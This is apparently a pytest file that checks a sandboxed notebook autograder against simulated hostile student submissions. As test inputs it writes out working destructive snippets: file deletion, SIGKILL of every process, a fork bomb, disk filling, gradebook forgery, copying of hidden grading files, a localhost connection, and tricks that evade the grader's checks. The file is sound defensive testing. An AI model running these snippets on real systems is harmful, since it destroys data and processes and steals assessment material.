"""The grader against hostile submissions: graded by the real command, in the sandbox.

A class of generated students, each with one attack placed before the first
exercise of an otherwise right notebook, between two honest students graded
first and last (aaron, zoe). Each attacker knows the real paths (of the course,
the grades folder, the grading data) and also looks for them the ways a
student would: through ``sys.executable``, ``/proc/<pid>/cwd`` and the
editable install's metadata. The tests assert the exact gradebook, that the
course folder, the typed marks and the machine's processes are as before, and
that each attempt is flagged for the instructor.

Without bubblewrap the grader refuses, and ``--no-sandbox`` marks every report.
"""

from __future__ import annotations

import csv
import inspect
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from cli_runs import file_hashes, run_exercises
from run_once import alone
from imgsim_helpers import distances
from imgsim_helpers.classroom import sandbox
from imgsim_helpers.classroom.practice import fill, solutions
from imgsim_helpers.classroom.release import student_notebook

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOKS = {"01": "01-images-as-arrays.ipynb", "04": "04-euclidean-distance.ipynb", "08": "08-metrics.ipynb"}
SOLUTIONS = solutions()
HEADER = ["student", "1.1", "1.2", "1.3", "2.1", "2.2", "2.3", "3.1", "3.2", "3.3", "4.1", "4.2", "4.3",
          "5.1", "5.2", "5.3", "5.4", "8.1", "8.2", "8.3", "total", "flags"]
STOLEN = Path("/tmp") / f"imgsim-stolen-{os.getpid()}"
SLEEP = "4321"   # the seconds a stray child sleeps: found in the process list if it outlived its kernel
BYSTANDER = "4322"   # the seconds the test's own processes sleep while the class is graded

#: Attacks placed after the last exercise instead: the fork bomb's children hold every process
#: slot of its sandbox, so any later cell that starts a thread fails (its own notebook only).
LAST = ("bomber",)


def _right(key: str) -> dict[str, str]:
    return {n: code for n, code in SOLUTIONS.items() if n.startswith(f"{int(key)}.")}


def _attacks(grades: Path, port: int) -> dict[str, str]:
    """Student name -> the code of the attack cell (placed before exercise 1.1 of notebook 01)."""
    course, book = str(ROOT), str(grades / "gradebook.csv")
    return {
        "paths": f"""import glob, importlib.metadata, json, os, sys
from pathlib import Path
places = [Path({course!r}), Path(sys.executable).parent.parent.parent, Path(sys.executable).resolve().parents[2]]
try:
    url = json.loads(importlib.metadata.distribution('imgsim-helpers').read_text('direct_url.json'))['url']
    places.append(Path(url.removeprefix('file://')))
except Exception as exc:
    print('no metadata', exc)
for base in places:
    for photo in glob.glob(str(base / 'data' / '**' / '*.jpg'), recursive=True):
        try:
            os.remove(photo)
        except OSError:
            pass
    try:
        (base / 'imgsim_helpers' / 'planted.py').write_text('PLANTED = True')
    except OSError:
        pass""",
        "proc": f"""import os
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            cwd = os.readlink(f'/proc/{{pid}}/cwd')
        except OSError:
            continue
        for target in ('data/opening/duck.jpg', 'grades/gradebook.csv', 'gradebook.csv'):
            try:
                os.remove(os.path.join(cwd, target))
            except OSError:
                pass""",
        "killer": """import os, signal
parent = int(os.environ.get('JPY_PARENT_PID') or os.getppid())
for pid in [parent] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
os.kill(os.getpid(), signal.SIGKILL)""",
        "forger": f"""import csv, glob, os
found = [p for top in ('/tmp', '/home', '/root', '/srv', '/work') for p in glob.glob(top + '/**/gradebook.csv', recursive=True)]
for book in [{book!r}] + found:
    try:
        rows = list(csv.DictReader(open(book)))
        for row in rows:
            if row['student'] == 'forger':
                row['5.4'] = '2'
        with open(book, 'w') as out:
            writer = csv.DictWriter(out, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    except OSError as exc:
        print('could not forge', book, exc)
    try:
        open(book, 'w').close()
    except OSError:
        pass""",
        "reader": f"""import glob, shutil, threading, time
wanted = ['{course}/grading/hidden_cases.py', '{course}/grading/points.toml']
def steal():
    for _ in range(600):
        for path in wanted + glob.glob('/**/.spec-*.json*', recursive=True) + glob.glob('/**/hidden_cases.py', recursive=True):
            try:
                shutil.copy(path, {str(STOLEN)!r} + '-' + path.replace('/', '_'))
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=steal, daemon=True).start()""",
        "network": f"""import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_INET6, ('::1', {port}))):
    try:
        socket.create_connection(address, timeout=2).sendall(b'stolen')
    except OSError as exc:
        print('no network', exc)""",
        "sleeper": f"""import os, subprocess
subprocess.Popen(['sleep', '{SLEEP}'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execvp('sleep', ['sleep', '{SLEEP}'])""",
        "bomber": """import os, time
forked = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        forked += 1
except OSError as exc:
    print('the fork bomb stopped after', forked, exc)""",
        "filler": """import os
written = 0
for folder in ('/tmp', '/course', '.'):
    for n in range(1000):
        try:
            with open(os.path.join(folder, f'fill-{n}'), 'wb') as out:
                for _ in range(100):
                    out.write(b'x' * (1 << 20))
                    written += 1
        except OSError as exc:
            break
print('wrote', written, 'MB before', exc)""",
    }


def _pasted_bhattacharyya() -> str:
    """8.3 answered with the course helper's own body, renamed (it still runs in the notebook)."""
    body = inspect.getsource(distances.bhattacharyya).replace("def bhattacharyya(h1: object, h2: object) -> float:",
                                                              "def my_bhattacharyya(first, second):")
    body = body.replace("h1", "first").replace("h2", "second")
    return "from imgsim_helpers.comparing.metrics import _as_distributions\n\n" + body


EVASIONS_08 = {
    "8.1": "import types\nfrom imgsim_helpers import manhattan\n"
           "my_manhattan = types.FunctionType(manhattan.__code__, manhattan.__globals__, 'my_manhattan')",
    "8.2": "import sys\nsys.setprofile = lambda *args: None\nsys.settrace = lambda *args: None\n"
           "from imgsim_helpers import distances as d\n\n"
           "def my_intersection(p, q):\n    return d.intersection(p, q)",
}
DEGENERATE_04 = {
    "4.2": "def brighten(image, amount):\n    return image",
    "4.3": "def pixel_distance(image1, image2):\n    return float(np.sqrt(np.sum((image1 - image2) ** 2)))",
}
DEGENERATE_08 = {"8.1": "def my_manhattan(p, q):\n    return 0.0"}


class Listener:
    """A TCP listener on 127.0.0.1 that records whether anything connected."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.05)    # how often the loop looks at `running`: close() waits up to this long
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join(5)
        self.server.close()


def _processes() -> dict[int, str]:
    found = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found[int(entry.name)] = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
    return found


def _course_state() -> dict[str, str]:
    return {path: digest for part in ("data", "imgsim_helpers", "grading", "notebooks")
            for path, digest in file_hashes(ROOT / part).items() if "__pycache__" not in path}


def _write(path: Path, notebook: nbformat.NotebookNode) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, path)


def _gradebook(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def _typed_marks(path: Path) -> None:
    """A gradebook from an earlier run, with the instructor's marks for 5.4 typed in."""
    typed = {"aaron": "2", "zoe": "1.5", "forger": "0", "killer": "3", "ghost": "1"}
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=HEADER)
        writer.writeheader()
        for student, mark in typed.items():
            row = dict.fromkeys(HEADER, "")
            row.update(student=student, **{"5.4": mark})
            writer.writerow(row)


@pytest.fixture(scope="module")
def graded(sandbox_ready, tmp_path_factory):
    """The class graded by the real command; what the machine looked like before and after."""
    release = {key: student_notebook(nbformat.read(ROOT / "notebooks" / name, as_version=4))
               for key, name in NOTEBOOKS.items()}
    subs, grades = tmp_path_factory.mktemp("submissions"), tmp_path_factory.mktemp("grades")
    listener = Listener()
    for name in ("aaron", "zoe"):
        for key, notebook in release.items():
            _write(subs / name / NOTEBOOKS[key], fill(notebook, _right(key)))
    for name, attack in _attacks(grades, listener.port).items():
        notebook = fill(release["01"], _right("01"), before={"1.1": attack})
        if name in LAST:
            notebook = fill(release["01"], _right("01"))
            notebook.cells.append(nbformat.v4.new_code_cell(attack))
        _write(subs / name / NOTEBOOKS["01"], notebook)
    _write(subs / "evader" / NOTEBOOKS["08"],
           fill(release["08"], {**_right("08"), **EVASIONS_08, "8.3": _pasted_bhattacharyya()}))
    _write(subs / "lazy" / NOTEBOOKS["04"], fill(release["04"], {**_right("04"), **DEGENERATE_04}))
    _write(subs / "lazy" / NOTEBOOKS["08"], fill(release["08"], {**_right("08"), **DEGENERATE_08}))
    _typed_marks(grades / "gradebook.csv")
    # Alone: no other test of the run (make test runs two at once) starts or ends processes, grades
    # with the sandbox or leaves files in the course folder between the two snapshots.
    with alone():
        bystanders = [subprocess.Popen(["sleep", BYSTANDER]),                          # in this session
                      subprocess.Popen(["sleep", BYSTANDER], start_new_session=True)]  # in one of its own
        before = {"course": _course_state(), "processes": _processes()}
        done = subprocess.run([sys.executable, "-m", "imgsim_helpers.exercises", "grade", str(subs), "--out",
                               str(grades), "--workers", "2", "--cell-timeout", "10", "--notebook-timeout", "150",
                               "--case-timeout", "5"], cwd=ROOT, capture_output=True, text=True, timeout=1200)
        listener.close()
        after = {"course": _course_state(), "processes": _processes(),
                 "bystanders": [p.pid for p in bystanders if p.poll() is None]}
    for bystander in bystanders:
        bystander.kill()
        bystander.wait()
    before["bystanders"] = [p.pid for p in bystanders]
    yield done, grades, before, after, listener
    for stolen in STOLEN.parent.glob(STOLEN.name + "*"):
        stolen.unlink()


ALL_RIGHT = ["1", "1", "1", "", "", "", "", "", "", "1", "1", "2", "", "", "", "", "1", "1", "1"]
ONLY_01 = ["1", "1", "1"] + [""] * 16


def _expected() -> dict[str, list[str]]:
    def row(points: list[str], typed: str = "") -> list[str]:
        points = [p if p else "0" for p in points]
        points[15] = typed           # 5.4, typed by the instructor
        return points
    only_01 = row(ONLY_01)
    rows = {name: (only_01, "3") for name in _attacks(Path("/x"), 0)}
    rows["killer"] = (row(ONLY_01, "3"), "3")      # the typed 3 (of 2) is refused: not counted
    rows["forger"] = (row(ONLY_01, "0"), "3")      # the forged 2 never reached the gradebook
    rows["aaron"] = (row(ALL_RIGHT, "2"), "12")
    rows["zoe"] = (row(ALL_RIGHT, "1.5"), "11.50")
    # evader: 8.1 a package code object in a new function, 8.2 the helper behind a patched
    # sys.setprofile: both helper answers; 8.3 the helper's body pasted: right, and flagged
    rows["evader"] = (row(["0"] * 16 + ["0", "0", "1"]), "1")
    # lazy: 4.2 returns its input, 4.3 wraps around in uint8, 8.1 returns a constant: all 0
    rows["lazy"] = (row(["0"] * 9 + ["1", "0", "0"] + ["0"] * 4 + ["0", "1", "1"]), "3")
    rows["ghost"] = (row([""] * 19, "1"), "1")     # only in the earlier gradebook: kept as it was
    return {name: points + [total] for name, (points, total) in rows.items()}


def test_the_command_finishes_and_writes_every_report(graded):
    done, grades, _, _, _ = graded
    assert done.returncode == 0, done.stderr
    assert "students graded" in done.stdout
    for name in ("aaron", "zoe", "killer", "bomber", "evader"):
        assert (grades / "feedback" / f"{name}.html").exists()
    assert (grades / "class-report.html").exists()


def test_the_gradebook_is_exactly_right(graded):
    _, grades, _, _, _ = graded
    book = _gradebook(grades / "gradebook.csv")
    got = {name: [row[c] for c in HEADER[1:-1]] for name, row in book.items()}
    ghost = got.pop("ghost")
    expected = _expected()
    assert ghost == [""] * 15 + ["1", "", "", "", "1"]
    del expected["ghost"]
    assert got == expected


def test_honest_students_before_and_after_the_attacks_get_full_marks(graded):
    _, grades, _, _, _ = graded
    book = _gradebook(grades / "gradebook.csv")
    assert book["aaron"]["total"] == "12" and book["zoe"]["total"] == "11.50"
    assert book["aaron"]["flags"] == book["zoe"]["flags"] == "no submission for notebook 02, 03, 05"


def test_the_course_folder_is_exactly_as_before(graded):
    _, _, before, after, _ = graded
    assert after["course"] == before["course"]
    assert not (ROOT / "imgsim_helpers" / "planted.py").exists()


def test_no_process_outlives_its_kernel(graded):
    _, _, before, after, _ = graded
    new = {pid: cmd for pid, cmd in after["processes"].items() if pid not in before["processes"]}
    mine = [cmd for cmd in new.values()    # this checkout's kernels (not another grading run on the machine)
            if f"sleep {SLEEP}" in cmd or (sys.executable in cmd and ("grading kernel" in cmd or "bwrap" in cmd))]
    assert not mine
    # nothing was killed: the test's own bystanders (one in its session, one in a session of its own) and
    # the test run itself lived on (the machine's other processes may end on their own meanwhile)
    assert after["bystanders"] == before["bystanders"]
    assert os.getppid() in after["processes"]


def test_nothing_crossed_the_network_or_left_the_sandbox(graded):
    _, _, _, _, listener = graded
    assert listener.connections == 0
    assert not list(STOLEN.parent.glob(STOLEN.name + "*"))


def test_every_attempt_is_flagged(graded):
    _, grades, _, _, _ = graded
    flags = {name: row["flags"] for name, row in _gradebook(grades / "gradebook.csv").items()}
    assert "escape: looks for the course folder" in flags["paths"]
    assert "other processes" in flags["proc"]
    assert "kill: tries to kill processes" in flags["killer"] and "kill: tried to send signal 9" in flags["killer"]
    assert "killed the kernel" in flags["killer"]
    assert "grading data" in flags["forger"] or "grading data" in flags["reader"]
    assert "grading data: looks for the grading files" in flags["reader"]
    assert "network: connect to" in flags["network"]
    assert "process: " in flags["sleeper"] and "process: " in flags["bomber"]
    assert "8.1: helper answer" in flags["evader"] and "8.2: helper answer" in flags["evader"]
    assert "checks: replaces the grader's watch" in flags["evader"]
    assert "8.3: matches the course's helper `bhattacharyya`" in flags["evader"]


def test_typed_marks_are_validated_and_cannot_be_forged(graded):
    done, grades, _, _, _ = graded
    book = _gradebook(grades / "gradebook.csv")
    assert book["forger"]["5.4"] == "0" and book["killer"]["5.4"] == "3"
    assert "killer, 5.4: 3 is outside 0-2; not counted" in done.stdout


def test_the_class_report_keeps_attempts_apart_from_misconceptions(graded):
    _, grades, _, _, _ = graded
    report = (grades / "class-report.html").read_text(encoding="utf-8")
    table = report.split("misconceptions</h2>", 1)[1].split("</table>", 1)[0]
    assert "tried" not in table and "helper answer" not in table
    assert "Attempts to leave the sandbox" in report


def test_without_bubblewrap_the_grader_refuses_and_no_sandbox_marks_every_report(tmp_path, capsys, monkeypatch):
    subs, grades = tmp_path / "subs", tmp_path / "grades"
    notebook = student_notebook(nbformat.read(ROOT / "notebooks" / NOTEBOOKS["01"], as_version=4))
    _write(subs / "aaron" / NOTEBOOKS["01"], fill(notebook, _right("01")))
    bin_dir = tmp_path / "bin"    # a PATH with this Python and nothing else: no bwrap
    bin_dir.mkdir()
    (bin_dir / "python").symlink_to(sys.executable)
    env = {**os.environ, "PATH": str(bin_dir)}
    command = [sys.executable, "-m", "imgsim_helpers.exercises", "grade", str(subs), "--out", str(grades)]
    # The refusal in this process, with that PATH (the message is what is tested; the run with --no-sandbox
    # below is the real command); the sandbox is looked for once per process, so again before and after.
    sandbox.unavailable.cache_clear()
    try:
        with monkeypatch.context() as patched:
            patched.setenv("PATH", str(bin_dir))
            patched.chdir(ROOT)
            status, _, err = run_exercises(capsys, *command[3:])
    finally:
        sandbox.unavailable.cache_clear()
    assert status == 1
    assert "bubblewrap (bwrap) is not installed" in err and "--no-sandbox" in err
    assert not grades.exists()
    plain = subprocess.run(command + ["--no-sandbox"], cwd=ROOT, env=env, capture_output=True, text=True,
                           timeout=300)
    assert plain.returncode == 0, plain.stderr
    assert "--no-sandbox" in plain.stderr
    pages = list(grades.glob("**/*.html"))
    assert len(pages) >= 2
    for page in pages:
        assert "Not sandboxed:" in page.read_text(encoding="utf-8"), page
    assert "graded without the sandbox" in _gradebook(grades / "gradebook.csv")["aaron"]["flags"]
    assert _gradebook(grades / "gradebook.csv")["aaron"]["total"] == "3"
